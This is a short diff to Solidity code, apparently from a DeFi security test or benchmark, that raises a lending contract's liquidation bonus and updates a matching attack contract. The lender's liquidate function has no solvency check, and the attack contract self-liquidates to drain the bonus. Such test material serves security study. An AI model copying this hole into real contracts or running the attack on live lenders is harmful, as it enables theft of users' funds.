@@ -17,7 +17,7 @@ contract BonusLender is SpotLender {
     function liquidate(address who, uint256 amount) external {
         debt[who] -= amount;
         cash.transferFrom(msg.sender, address(this), amount);
-        uint256 seized = amount * 125 / 100;
+        uint256 seized = amount * 150 / 100;
         uint256 has = collateral[who];
         collateral[who] = seized < has ? has - seized : 0;
         coin.transfer(msg.sender, seized);
@@ -78,7 +78,7 @@ contract LiquidationBonusAttack is Attack {
             uint256 there = cash.balanceOf(address(lender));
             uint256 amount = room < there ? room : there;
             lender.borrow(amount);
-            uint256 coins = loanToken.balanceOf(address(lender)) * 100 / 125;
+            uint256 coins = loanToken.balanceOf(address(lender)) * 100 / 150;
             lender.liquidate(address(this), amount < coins ? amount : coins);
         }
     }
